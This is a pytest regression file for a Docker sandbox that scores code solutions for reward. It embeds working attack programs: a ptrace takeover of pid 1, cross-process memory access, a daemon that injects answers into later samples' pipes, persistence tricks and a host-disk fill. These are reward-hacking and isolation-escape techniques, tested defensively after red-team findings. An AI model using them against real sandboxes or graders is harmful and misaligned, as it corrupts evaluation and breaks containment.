"""Docker backend: nothing a solution does reaches pid 1, another process, a later sample or
the host's disk (issue 12, findings 1 and 4), and a closed backend leaves no container.

Every attack program prints ``pwned`` (the expected output) only if its attack worked, so a
working attack earns reward; the host-side checks look for the trace it would leave. The
samples run through the code verifier with ``pool_size=1``: between samples the backend
keeps one container, which serves the next sample if its sweep proves it clean.
"""

from __future__ import annotations

import gc
import os
import socket
import textwrap
import threading
import time
import weakref
from typing import Any

import pytest
from conftest import code_verifier_on, sandbox_missing

from rewardkit import Result, Sample
from rewardkit.verifiers.code import DEFAULT_DOCKER_HOST, DEFAULT_IMAGE, CodeVerifier
from rewardkit.verifiers.code.sandbox import Limits, SandboxUnavailable
from rewardkit.verifiers.code.sandbox.docker_backend import LABEL, DockerBackend
from rewardkit.verifiers.code.sandbox.docker_programs import (
    INIT_USER,
    SANDBOX_UID,
    SANDBOX_USER,
)
from rewardkit.verifiers.code.sandbox.docker_seccomp import DENIED, allowed

LIMITS = {"time_limit": 3.0, "memory_limit": 256, "output_limit": 64 * 1024, "max_files": 200}
HOST = os.environ.get("DOCKER_HOST") or DEFAULT_DOCKER_HOST


@pytest.fixture(scope="module")
def verifier():  # type: ignore[no-untyped-def]
    yield from code_verifier_on("docker", {**LIMITS, "pool_size": 1})


def backend_of(verifier: CodeVerifier) -> DockerBackend:
    backend = verifier.backend()
    assert isinstance(backend, DockerBackend)
    return backend


def run(verifier: CodeVerifier, program: str, stdout: str = "pwned") -> Result:
    program = textwrap.dedent(program)
    return verifier.verify(Sample(completion=program,
                                  reference={"cases": [{"stdin": "", "stdout": stdout}]}))


def zero(result: Result) -> None:
    assert result.reward == 0.0, result
    assert not result.passed


def later_samples_score_zero(verifier: CodeVerifier, copier: str, tries: int = 2) -> None:
    """A copier has no logic of its own: it prints ``pwned`` only if an earlier sample's
    leftovers hand it something. It runs as later samples, then (whichever sandbox of a
    sample each container served) once more in every container the pool kept."""
    for _ in range(tries):
        time.sleep(0.3)  # the container is swept in the background before it serves again
        zero(run(verifier, copier))
    backend = backend_of(verifier)
    settled(backend)
    for container in list(backend._all.values()):
        reply = container.exec_run(["/usr/bin/python3", "-I", "-S", "-c", textwrap.dedent(copier)],
                                   user=SANDBOX_USER, workdir="/work")
        assert b"pwned" not in reply.output, reply


def plant(verifier: CodeVerifier, code: str) -> None:
    """Run ``code`` as the module-level part of an assert-style sample that passes: nothing
    but the sweep stands between what it leaves and the next sample."""
    program = textwrap.dedent(code) + "\ndef f():\n    return 1\n"
    result = verifier.verify(Sample(completion=program, reference={"tests": "assert f() == 1"}))
    assert result.passed, result


def containers(label: str) -> list[Any]:
    """Containers the engine holds with ``label`` (through a client of the test's own)."""
    import docker

    client = docker.DockerClient(base_url=HOST)
    try:
        return list(client.containers.list(all=True, filters={"label": label}))
    finally:
        client.close()


def our_containers(backend: DockerBackend) -> list[Any]:
    return containers(f"{LABEL}.backend={backend._token}")


# --- finding 1: pid 1, tracing, leftovers ------------------------------------------------

PTRACE = """
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
"""

TAKEOVER = PTRACE + """
DAEMON = (
    "import socket\\ns = socket.socket(socket.AF_UNIX)\\ns.bind('\\\\0rk-pid1')\\ns.listen(8)\\n"
    "while True:\\n    c = s.accept()[0]\\n    c.sendall(b'pwned')\\n    c.close()\\n")

def take_over_pid1():
    if libc.ptrace(0x4206, 1, None, None) != 0:  # PTRACE_SEIZE
        return False
    libc.ptrace(0x4207, 1, None, None)  # PTRACE_INTERRUPT
    os.waitpid(1, 0x40000000)
    regs = (ctypes.c_ulong * 27)()
    libc.ptrace(12, 1, None, ctypes.addressof(regs))  # PTRACE_GETREGS
    rip, rsp = regs[16], regs[19]
    if libc.ptrace(1, 1, ctypes.c_void_p(rip - 2), None) & 0xFFFF != 0x050F:  # a syscall
        libc.ptrace(17, 1, None, None)
        return True
    # Make pid 1 itself execve a daemon: argv on its stack, registers set for the syscall.
    strings = [b"/usr/bin/python3\\0", b"-c\\0", DAEMON.encode() + b"\\0"]
    base, blob, pointers = (rsp - 65536) & ~15, b"", []
    for string in strings:
        pointers.append(base + len(blob))
        blob += string
    argv = base + ((len(blob) + 15) & ~15)
    blob = blob.ljust(argv - base, b"\\0") + struct.pack("<4Q", *pointers, 0)
    blob = blob.ljust((len(blob) + 7) & ~7, b"\\0")
    for i in range(0, len(blob), 8):
        word = struct.unpack("<Q", blob[i:i + 8])[0]
        libc.ptrace(5, 1, ctypes.c_void_p(base + i), ctypes.c_void_p(word))  # POKEDATA
    regs[16], regs[10], regs[15] = rip - 2, 59, 2**64 - 1  # rip, rax=execve, orig_rax
    regs[14], regs[13], regs[12] = pointers[0], argv, 0  # rdi, rsi, rdx
    libc.ptrace(13, 1, None, ctypes.addressof(regs))  # PTRACE_SETREGS
    libc.ptrace(17, 1, None, None)  # PTRACE_DETACH
    return True

print("pwned" if take_over_pid1() else "refused")
"""

ASK_THE_DAEMON = """
import socket
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect("\\0{name}")
    print(s.recv(100).decode())
except OSError:
    print("nobody there")
"""


def test_pid1_takeover_does_not_outlive_the_sample(verifier):  # type: ignore[no-untyped-def]
    """Before: pid 1 ran as the sandbox user and Docker's seccomp allowed ptrace, so a sample
    seized pid 1 and made it execve a daemon; the sweep's kill(-1) spares pid 1, so the daemon
    served every later sample in that container (here: the expected answer, to a copier that
    scored 1.0). Now ptrace is denied by the seccomp profile and pid 1 is another user."""
    zero(run(verifier, TAKEOVER))
    later_samples_score_zero(verifier, ASK_THE_DAEMON.format(name="rk-pid1"))


PID1_PROBES = """
import ctypes, os, signal
reached = []
for sig in (0, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(1, sig)
        reached.append("signal %d" % sig)
    except OSError:
        pass
for path, flags in (("/proc/1/fd/1", os.O_WRONLY), ("/proc/1/fd/2", os.O_WRONLY),
                    ("/proc/1/fd/0", os.O_RDONLY), ("/proc/1/mem", os.O_RDWR),
                    ("/proc/1/environ", os.O_RDONLY)):
    try:
        os.close(os.open(path, flags))
        reached.append(path)
    except OSError:
        pass
try:
    os.listdir("/proc/1/fd")
    reached.append("fd list")
except OSError:
    pass
uids = [line for line in open("/proc/1/status") if line.startswith("Uid:")][0].split()[1:]
if str(os.getuid()) in uids or "0" in uids:
    reached.append("uid " + " ".join(uids))
print("pwned" if reached else "safe")
"""


def test_pid1_is_another_user_and_not_dumpable(verifier):  # type: ignore[no-untyped-def]
    """Before: pid 1 was a ``sleep`` of the sandbox user: a solution could signal it, open
    its descriptors (``/proc/1/fd/1`` led to the container log) and read its memory. Now pid 1
    runs as its own user, non-dumpable, so every one of these is refused."""
    zero(run(verifier, PID1_PROBES))


def test_init_user_is_neither_root_nor_the_sandbox_user() -> None:
    assert INIT_USER not in (0, SANDBOX_UID)


TRACE_A_CHILD = PTRACE + """
import signal, time
done = []
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
if libc.ptrace(0x4206, child, None, None) == 0 or libc.ptrace(16, child, None, None) == 0:
    done.append("ptrace attach")
buf = ctypes.create_string_buffer(64)
iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 64)
libc.process_vm_readv.restype = ctypes.c_ssize_t
libc.process_vm_writev.restype = ctypes.c_ssize_t
if libc.process_vm_readv(child, iov, 1, iov, 1, 0) > 0:
    done.append("process_vm_readv")
if libc.process_vm_writev(child, iov, 1, iov, 1, 0) > 0:
    done.append("process_vm_writev")
if libc.syscall(312, os.getpid(), child, 0, 0, 0) >= 0:  # kcmp
    done.append("kcmp")
pidfd = os.pidfd_open(child)
if libc.syscall(438, pidfd, 0, 0) >= 0:  # pidfd_getfd
    done.append("pidfd_getfd")
tracee = os.fork()
if tracee == 0:
    os._exit(0 if libc.ptrace(0, 0, None, None) == 0 else 1)  # PTRACE_TRACEME
if os.waitpid(tracee, 0)[1] == 0:
    done.append("traceme")
os.kill(child, signal.SIGKILL)
print("pwned" if done else "denied")
"""


def test_tracing_and_cross_process_memory_are_denied(verifier):  # type: ignore[no-untyped-def]
    """Before: Docker's default seccomp profile allows ptrace and process_vm_readv/writev to a
    process of the same user, and this host has no Yama: a solution could attach to any
    process of the sandbox user (pid 1, a runner) and read or rewrite its memory."""
    zero(run(verifier, TRACE_A_CHILD))


def test_denied_system_calls_are_not_allowed() -> None:
    assert not set(DENIED) & set(allowed())
    assert {"ptrace", "process_vm_readv", "process_vm_writev"} <= set(DENIED)


DAEMON_IN_LATER_PIPES = """
import os, time
before = set(os.listdir("/proc"))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        os.closerange(0, 3)
        me, done, end = os.getpid(), before, time.monotonic() + 30
        while time.monotonic() < end:
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) != me and name not in done:
                    try:  # answer for whatever runs next: write into its stdout pipe
                        fd = os.open("/proc/%s/fd/1" % name, os.O_WRONLY | os.O_NONBLOCK)
                        os.write(fd, b"pwned\\n")
                        os.close(fd)
                        done.add(name)
                    except OSError:
                        pass
            time.sleep(0.005)
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
"""


def test_daemon_cannot_answer_for_later_samples(verifier):  # type: ignore[no-untyped-def]
    """The red team's daemon wrote into later runners' pipes from pid 1, the one process the
    old sweep could not kill. This one tries the same from an ordinary process (double fork,
    setsid, signals ignored): it writes ``pwned`` into the stdout of whatever runs next, so a
    later copier that prints nothing scores 1.0 if the daemon outlives its sample's sweep."""
    plant(verifier, DAEMON_IN_LATER_PIPES)
    later_samples_score_zero(verifier, "import time\ntime.sleep(1.0)")


LEAVE_BEHIND = {
    "tmp file": "open('/tmp/rk-left', 'w').write('pwned')",
    "work file": "open('/work/rk-left', 'w').write('pwned')",
    "shm file": "open('/dev/shm/rk-left', 'w').write('pwned')",
    "locked folder": ("os.makedirs('/tmp/rk-locked/inner')\n"
                      "open('/tmp/rk-locked/inner/x', 'w').write('pwned')\n"
                      "os.chmod('/tmp/rk-locked/inner', 0)\nos.chmod('/tmp/rk-locked', 0)"),
    "fifo": "os.mkfifo('/tmp/rk-fifo')",
    "posix mqueue": ("libc = ctypes.CDLL(None, use_errno=True)\n"
                     "assert libc.mq_open(b'/rk-left', os.O_CREAT | os.O_RDWR, 0o600, None) >= 0"),
    "sysv shm": ("libc = ctypes.CDLL(None, use_errno=True)\n"
                 "assert libc.shmget(0x524B, 4096, 0o1600) >= 0"),
    "sysv msg": ("libc = ctypes.CDLL(None, use_errno=True)\n"
                 "assert libc.msgget(0x524B, 0o1600) >= 0"),
    "sysv sem": ("libc = ctypes.CDLL(None, use_errno=True)\n"
                 "assert libc.semget(0x524B, 1, 0o1600) >= 0"),
    "abstract socket daemon": (
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        s = socket.socket(socket.AF_UNIX)\n        s.bind('\\0rk-left')\n"
        "        s.listen(8)\n        while True:\n            c = s.accept()[0]\n"
        "            c.sendall(b'pwned')\n            c.close()\n"
        "    os._exit(0)\ntime.sleep(0.3)"),
}

FIND_LEFTOVERS = """
import ctypes, os, socket
found = [p for p in ("/tmp/rk-left", "/work/rk-left", "/dev/shm/rk-left", "/tmp/rk-locked",
                     "/tmp/rk-fifo", "/dev/mqueue/rk-left") if os.path.lexists(p)]
libc = ctypes.CDLL(None)
for name, get in (("shm", lambda: libc.shmget(0x524B, 0, 0)),
                  ("msg", lambda: libc.msgget(0x524B, 0)),
                  ("sem", lambda: libc.semget(0x524B, 0, 0))):
    if get() >= 0:
        found.append(name)
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect("\\0rk-left")
    found.append("socket")
except OSError:
    pass
print("pwned" if found else "clean")
"""


@pytest.mark.parametrize("kind", sorted(LEAVE_BEHIND))
def test_nothing_persists_to_the_next_sample(verifier, kind):  # type: ignore[no-untyped-def]
    """A sample leaves something behind and a later copier prints ``pwned`` if it finds it:
    a shared store across samples (of answers, of other rollouts' programs) earns reward.
    The old sweep removed these (only pid 1 escaped it); the new one must too, now that it
    kills as root before it cleans as the sandbox user."""
    plant(verifier, "import ctypes, os, socket, time\n" + LEAVE_BEHIND[kind])
    later_samples_score_zero(verifier, FIND_LEFTOVERS)


def test_runs_hold_no_capability(verifier):  # type: ignore[no-untyped-def]
    program = """
    import os
    status = dict(line.split(":", 1) for line in open("/proc/self/status"))
    caps = [k for k in ("CapInh", "CapPrm", "CapEff", "CapAmb") if int(status[k], 16)]
    gained = []
    for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
        try:
            change()
            gained.append(change)
        except OSError:
            pass
    fenced = status["NoNewPrivs"].strip() == "1" and status["Seccomp"].strip() == "2"
    for top in ("/usr", "/etc", "/tmp", "/work"):  # a setuid file or file capability to exec
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if os.lstat(path).st_mode & 0o6000:
                        gained.append(path)
                    if "security.capability" in os.listxattr(path, follow_symlinks=False):
                        gained.append(path)
                except OSError:
                    pass
    print("pwned" if caps or gained or not fenced or os.getuid() == 0 else "none")
    """
    zero(run(verifier, program))
    assert run(verifier, program, "none").passed  # the probe ran to its end


def test_ordinary_python_still_works(verifier):  # type: ignore[no-untyped-def]
    """The seccomp allow-list keeps what ordinary programs use."""
    program = """
    import asyncio, mmap, multiprocessing, os, select, signal, socket, subprocess, tempfile
    import threading, time
    results = []
    t = threading.Thread(target=results.append, args=(1,))
    t.start(); t.join()
    out = subprocess.run(["/usr/bin/python3", "-c", "print(2)"], capture_output=True).stdout
    results.append(int(out))
    with multiprocessing.Pool(2) as pool:
        results.append(sum(pool.map(abs, [-1, -2])))
    a, b = socket.socketpair()
    a.send(b"x")
    select.select([b], [], [], 1)
    results.append(len(b.recv(1)))
    with tempfile.TemporaryFile() as f:
        f.write(b"abc"); f.flush()
        results.append(len(mmap.mmap(f.fileno(), 0)))
    signal.signal(signal.SIGALRM, lambda *a: results.append("alarm"))
    signal.setitimer(signal.ITIMER_REAL, 0.01)
    time.sleep(0.05)
    results.append(asyncio.run(asyncio.sleep(0, result=5)))
    print(results)
    """
    result = run(verifier, program, "[1, 2, 3, 1, 3, 'alarm', 5]")
    assert result.passed, result


def test_kernel_interfaces_outside_the_profile(verifier):  # type: ignore[no-untyped-def]
    program = """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    opened = []
    if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER: capabilities inside it
        opened.append("unshare")
    params = ctypes.create_string_buffer(120)
    for name, number, args in (("io_uring_setup", 425, (8, params)), ("bpf", 321, (0, None, 0)),
                               ("userfaultfd", 323, (0,)), ("keyctl", 250, (0, -1, 0))):
        if libc.syscall(number, *args) >= 0:
            opened.append(name)
    print("pwned" if opened else "closed")
    """
    zero(run(verifier, program))


# --- finding 4: the host's disk ----------------------------------------------------------


def test_container_log_is_off(verifier):  # type: ignore[no-untyped-def]
    """Before: pid 1's stdout went to the json-file log with no size cap, and any solution
    could open /proc/1/fd/1: 1 GiB reached the host's disk in 3.5 s. Now pid 1 is out of
    reach and the log driver is ``none``, so nothing a container prints is stored."""
    program = """
    block, written = b"x" * (1 << 20), 0
    for path in ("/proc/1/fd/1", "/proc/1/fd/2"):
        try:
            with open(path, "wb", buffering=0) as f:
                for _ in range(8):
                    written += f.write(block)
        except OSError:
            pass
    print("pwned" if written >= 8 << 20 else "kept")
    """
    zero(run(verifier, program))
    containers = our_containers(backend_of(verifier))
    assert containers
    for container in containers:
        container.reload()
        assert container.attrs["HostConfig"]["LogConfig"]["Type"] == "none"
        assert not container.attrs.get("LogPath")


def test_every_writable_place_is_capped_memory(verifier):  # type: ignore[no-untyped-def]
    """A write that reaches a disk-backed mount (the image's layer, a bind mount) would fill
    the host's disk past the tmpfs caps. The program tries every mount point and prints
    ``pwned`` if one that takes a write is not a tmpfs capped in bytes and inodes (before,
    Docker's own /dev/shm had no inode cap)."""
    program = """
    import os, stat
    bad = []
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        point, rest = fields[4], line.split(" - ")[1].split()
        fstype, options = rest[0], rest[2]
        if fstype in ("proc", "sysfs", "cgroup", "devpts", "mqueue"):
            continue
        if stat.S_ISCHR(os.stat(point).st_mode):
            continue  # /dev/null bound over masked /proc files: writes go nowhere
        target = os.path.join(point, ".rk-write-probe") if os.path.isdir(point) else point
        try:
            with open(target, "ab") as f:
                f.write(b"x")
        except OSError:
            continue
        if fstype != "tmpfs" or "size=" not in options or "nr_inodes=" not in options:
            bad.append(point)
        if target.endswith(".rk-write-probe"):
            os.unlink(target)
    for folder in ("/", "/etc", "/usr", "/var", "/root", "/home", "/run"):
        try:
            open(os.path.join(folder, "rk-probe"), "w").close()
            bad.append(folder)
        except OSError:
            pass
    print("pwned" if bad else "capped")
    """
    zero(run(verifier, program))
    assert run(verifier, program, "capped").passed  # the probe ran to its end


# --- retirement ----------------------------------------------------------------------------


def exec_root(container: Any, code: str) -> None:
    result = container.exec_run(["/usr/bin/python3", "-I", "-S", "-c", code], user="0:0")
    assert result.exit_code == 0, result.output


@pytest.fixture
def backend():  # type: ignore[no-untyped-def]
    try:
        b = DockerBackend(Limits(time_limit=3.0, memory_limit=256), image=DEFAULT_IMAGE,
                          docker_host=HOST, pool_size=1)
    except SandboxUnavailable as exc:
        sandbox_missing("docker", exc)
    yield b
    b.close()


def one_session(backend: DockerBackend) -> Any:
    """Run an honest program in a session; the container it ran in."""
    session = backend.open_session()
    try:
        reply = session.request({"op": "load", "code": "x = 1"}, time.monotonic() + 30)
        assert reply["ok"], reply
    finally:
        session.close()
    return session._container  # type: ignore[attr-defined]


def settled(backend: DockerBackend) -> None:
    deadline = time.monotonic() + 30
    while backend._sweeping or backend._creating:
        assert time.monotonic() < deadline
        time.sleep(0.02)


def test_a_clean_container_is_reused(backend):  # type: ignore[no-untyped-def]
    first = one_session(backend)
    settled(backend)
    assert one_session(backend).id == first.id


def test_a_container_the_sweep_cannot_prove_clean_is_retired(backend):  # type: ignore[no-untyped-def]
    """A file the sandbox user cannot remove (here planted as root in the sticky /tmp) makes
    the sweep fail: that container must never serve again; a fresh one takes its place."""
    first = one_session(backend)
    settled(backend)
    exec_root(first, "open('/tmp/rk-root-file', 'w').close()")
    second = one_session(backend)
    assert second.id == first.id  # the plant came after the sweep
    settled(backend)
    third = one_session(backend)
    assert third.id != first.id
    assert first.id not in {c.id for c in our_containers(backend)}


def test_a_container_near_its_lifetime_is_retired(backend):  # type: ignore[no-untyped-def]
    first = one_session(backend)
    settled(backend)
    backend._born[first.id] -= 10 * 3600
    assert one_session(backend).id != first.id
    settled(backend)
    assert first.id not in {c.id for c in our_containers(backend)}


def test_two_sessions_at_once_with_a_pool_of_one(backend):  # type: ignore[no-untyped-def]
    """A sample may hold two sandboxes at once (tests and solution): the second session gets
    a container of its own instead of waiting for the first, and the extra one is not kept."""
    one = backend.open_session()
    two = backend.open_session()
    try:
        for session in (one, two):
            assert session.request({"op": "load", "code": "x = 1"}, time.monotonic() + 30)["ok"]
        assert one._container.id != two._container.id  # type: ignore[attr-defined]
    finally:
        one.close()
        two.close()
    settled(backend)
    assert len(our_containers(backend)) == 1


# --- bounded instances: close() ------------------------------------------------------------


def test_a_hundred_backends_leave_no_container(backend):  # type: ignore[no-untyped-def]
    """Workers evict verifier instances (LRU) and close them: each close must remove every
    container it made and release its threads and exit hooks, however many come and go."""
    threads = threading.active_count()
    tokens, refs = [], []
    for i in range(100):
        b = DockerBackend(Limits(), image=DEFAULT_IMAGE, docker_host=HOST, pool_size=2)
        tokens.append(b._token)
        refs.append(weakref.ref(b))
        if i % 25 == 0:
            one_session(b)
        b.close()
        b.close()  # idempotent
    del b
    gc.collect()
    assert [ref for ref in refs if ref() is not None] == []  # no exit hook keeps one alive
    assert threading.active_count() <= threads
    left = containers(f"{LABEL}.owner={socket.gethostname()}:{os.getpid()}")
    assert not [c for c in left if c.labels.get(f"{LABEL}.backend") in tokens]


def test_close_while_the_engine_is_slow(backend):  # type: ignore[no-untyped-def]
    """close() during a slow container creation waits for it and removes what it made, so no
    container appears after close() returns; the waiting session fails as unavailable."""
    create = backend._create

    def slow_create() -> Any:
        time.sleep(1.0)
        return create()

    backend._create = slow_create  # type: ignore[method-assign]
    failures: list[BaseException] = []

    def open_one() -> None:
        try:
            backend.open_session().close()
        except SandboxUnavailable as exc:
            failures.append(exc)

    opener = threading.Thread(target=open_one)
    opener.start()
    time.sleep(0.3)
    backend.close()
    opener.join(30)
    assert failures
    time.sleep(0.5)
    assert our_containers(backend) == []


def test_close_with_a_session_open(backend):  # type: ignore[no-untyped-def]
    session = backend.open_session()
    assert session.request({"op": "load", "code": "x = 1"}, time.monotonic() + 30)["ok"]
    backend.close()
    assert our_containers(backend) == []
    session.close()  # after its backend: no error, nothing restarted
    with pytest.raises(SandboxUnavailable):
        backend.open_session()


def test_a_container_that_died_idle_is_replaced(backend):  # type: ignore[no-untyped-def]
    """An idle container can die (its init killed by the engine, the memory cgroup, a
    restart): the next session must get a live one, not an error."""
    first = one_session(backend)
    settled(backend)
    first.remove(force=True)
    assert one_session(backend).id != first.id


def test_a_forked_copy_does_not_remove_its_parents_containers(backend):  # type: ignore[no-untyped-def]
    """A child forked from a worker inherits the backend object and its exit hooks; closing
    that copy must not remove the containers the parent is using."""
    first = one_session(backend)
    settled(backend)
    child = os.fork()
    if child == 0:
        try:
            backend.close()
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    assert one_session(backend).id == first.id


def test_a_runner_that_cannot_count_oom_kills_refuses(backend, monkeypatch):  # type: ignore[no-untyped-def]
    """The container is the run's memory cgroup, and only its OOM-kill counter tells that the
    kernel killed a process of the run: without it no code runs (SandboxUnavailable)."""
    from rewardkit.verifiers.code.sandbox import docker_backend
    source = docker_backend.RUNNER_SOURCE.replace("/sys/fs/cgroup/memory", "/rk-missing")
    assert source != docker_backend.RUNNER_SOURCE
    monkeypatch.setattr(docker_backend, "RUNNER_SOURCE", source)
    session = backend.open_session()
    try:
        with pytest.raises(SandboxUnavailable, match="OOM-kill counter"):
            session.request({"op": "load", "code": "x = 1"}, time.monotonic() + 30)
    finally:
        session.close()
